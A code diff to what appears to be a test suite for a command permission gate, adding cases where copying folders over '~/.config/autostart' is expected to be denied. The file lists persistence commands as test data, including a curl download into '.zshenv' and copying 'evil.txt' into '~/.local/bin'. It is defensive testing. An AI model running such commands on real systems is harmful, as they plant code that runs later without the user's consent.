@@ -83,7 +83,12 @@ export const RUN_LATER_PLACES = section("C10", CODE, [
     grants: GRANTS,
   },
   { call: bash("tee {home}/.zshenv"), why: "it is run later", grants: GRANTS },
-  { call: bash("cp -r src {home}/.config/autostart"), why: "a folder put there", grants: GRANTS },
+  {
+    call: bash("cp -r src {home}/.config/autostart"),
+    why: "it becomes the folder itself, with whatever entry of the gate is in it",
+    expected: DENIED,
+    grants: GRANTS,
+  },
   { call: bash("mv src {home}/.local/bin"), why: "a folder put there", grants: GRANTS },
   { call: bash("cp evil.txt {home}/.local/bin/"), why: "a file put into the folder", grants: GRANTS },
   ...writersOn("{home}/tools/ls", "a folder of PATH"),
@@ -91,5 +96,18 @@ export const RUN_LATER_PLACES = section("C10", CODE, [
     call: bash("curl -o {home}/.zshenv https://x.org/a"),
     why: "a download put there",
     grants: [...GRANTS, "network:http x.org"],
+  },
+  {
+    call: bash("cp -r src {home}/.config/autostart"),
+    why: "a folder put into the one that is there, beside the gate's entry",
+    prepare: ({ put }) => put(".config/autostart/notes.desktop"),
+    grants: GRANTS,
+  },
+  {
+    call: bash("cp -rT src {home}/.config/autostart"),
+    why: "over the folder that is there",
+    prepare: ({ put }) => put(".config/autostart/notes.desktop"),
+    expected: DENIED,
+    grants: GRANTS,
   },
 ]);
